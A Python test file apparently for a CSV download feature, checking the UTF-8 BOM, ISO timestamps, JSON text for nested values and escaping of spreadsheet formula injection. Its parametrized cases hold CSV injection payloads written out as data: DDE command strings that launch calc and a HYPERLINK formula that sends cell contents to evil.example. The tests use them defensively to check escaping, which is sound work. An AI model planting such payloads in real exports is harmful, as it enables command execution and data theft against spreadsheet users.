"""CSV downloads: BOM, ISO timestamps, JSON for nested values, and no formula injection."""
from __future__ import annotations

import csv
import datetime as dt
import io

import polars as pl
import pytest

from core.domain.scope import Scope
from core.present.export import to_csv
from core.storage.request_log import HistoryQuery, request_history
from tests.factories import seed_small

UTC = dt.timezone.utc


def cells(data: bytes) -> list[list[str]]:
    """What a spreadsheet (or csv.reader) reads back from the download."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_download_starts_with_a_utf8_byte_order_mark():
    assert to_csv(pl.DataFrame({"a": ["x"]})).startswith(b'\xef\xbb\xbf"a"\n')


def test_text_survives_as_utf8():
    assert cells(to_csv(pl.DataFrame({"name": ["Zoë 東京 🚀"]}))) == [["name"], ["Zoë 東京 🚀"]]


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t'=1+1"),  # and the tab separates: the "=" after it is escaped too
        ("\r=1+1", "'\r'=1+1"),
    ],
)
def test_cells_that_would_start_a_formula_get_a_leading_apostrophe(hostile, shown):
    assert cells(to_csv(pl.DataFrame({"value": [hostile]}))) == [["value"], [shown]]


@pytest.mark.parametrize("harmless", ["a=b", "1+1", "'quoted", "cust_a", "", " =not first", "/orders/{id}", "a; b", "x,y=z"])
def test_other_text_is_left_alone(harmless):
    assert cells(to_csv(pl.DataFrame({"value": [harmless]}))) == [["value"], [harmless]]


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("acme;=2+5", "acme;'=2+5"),
        ("acme,+2+5", "acme,'+2+5"),
        ("a|-2+3+cmd|' /C calc'!A0", "a|'-2+3+cmd|' /C calc'!A0"),
        ("x\t@SUM(1+1)", "x\t'@SUM(1+1)"),
        ("first line\n=1+1", "first line\n'=1+1"),
        ('acme;"=2+5"', 'acme;"\'=2+5"'),
        ("=1;=2", "'=1;'=2"),
        ("\t\t=1", "'\t\t'=1"),
    ],
)
def test_formula_triggers_after_a_separator_inside_a_cell_get_an_apostrophe(hostile, shown):
    assert cells(to_csv(pl.DataFrame({"value": [hostile]}))) == [["value"], [shown]]


def test_every_cell_is_quoted():
    frame = pl.DataFrame({"name": ["acme"], "n": [3], "missing": pl.Series([None], dtype=pl.String)})
    assert to_csv(frame) == b'\xef\xbb\xbf"name","n","missing"\n"acme","3",""\n'


def test_column_names_are_escaped_too():
    assert cells(to_csv(pl.DataFrame({"=evil()": ["x"]})))[0] == ["'=evil()"]


def test_negative_numbers_stay_numbers():
    assert cells(to_csv(pl.DataFrame({"delta": [-5], "ms": [-0.5]}))) == [["delta", "ms"], ["-5", "-0.5"]]


def test_quotes_commas_and_newlines_stay_inside_their_cell():
    value = 'he said "hi", then\nleft'
    assert cells(to_csv(pl.DataFrame({"a": [value], "b": [1]}))) == [["a", "b"], [value, "1"]]


def test_timestamps_are_iso_with_their_offset():
    frame = pl.DataFrame({"at": [dt.datetime(2026, 11, 25, 11, 0, tzinfo=UTC), dt.datetime(2026, 11, 25, 11, 0, 0, 500, tzinfo=UTC)]})
    assert cells(to_csv(frame)) == [["at"], ["2026-11-25T11:00:00+00:00"], ["2026-11-25T11:00:00.000500+00:00"]]


def test_dates_are_iso():
    assert cells(to_csv(pl.DataFrame({"day": [dt.date(2026, 11, 25)]}))) == [["day"], ["2026-11-25"]]


def test_nested_values_are_json_text():
    frame = pl.DataFrame({"tags": [["a", "b"]], "attrs": [{"Plan": "Pro", "seats": 3}]})
    assert cells(to_csv(frame)) == [["tags", "attrs"], ['["a","b"]', '{"Plan":"Pro","seats":3}']]


def test_missing_values_are_empty_cells():
    assert cells(to_csv(pl.DataFrame({"a": [None, "x"], "n": [1, None]}))) == [["a", "n"], ["", "1"], ["x", ""]]


def test_categorical_text_is_escaped_like_plain_text():
    frame = pl.DataFrame({"c": pl.Series(["=x", "ok"], dtype=pl.Categorical)})
    assert cells(to_csv(frame)) == [["c"], ["'=x"], ["ok"]]


def test_an_empty_table_downloads_its_header():
    assert cells(to_csv(pl.DataFrame({"id": pl.Series([], dtype=pl.Int64), "method": pl.Series([], dtype=pl.String)}))) == [["id", "method"]]


def test_a_history_page_downloads_exactly_its_rows(engine):
    seed_small(engine)
    rows = request_history(engine, Scope.customer("cust_c"), HistoryQuery()).rows
    assert cells(to_csv(rows)) == [
        ["id", "timestamp", "method", "status", "endpoint", "path", "load_time_ms", "response_size", "threat_level",
         "device", "ai_agent", "country", "customer_id", "customer_name", "api_id", "api_name"],
        ["8", "2026-11-25T05:00:00+00:00", "GET", "200", "/invoices", "/invoices", "100.0", "1000", "Low",
         "desktop", "", "US", "cust_c", "Carol Co", "2", "Billing API"],
        ["9", "2026-11-25T04:00:00+00:00", "POST", "201", "/invoices", "/invoices", "100.0", "1000", "Low",
         "desktop", "", "US", "cust_c", "Carol Co", "2", "Billing API"],
    ]
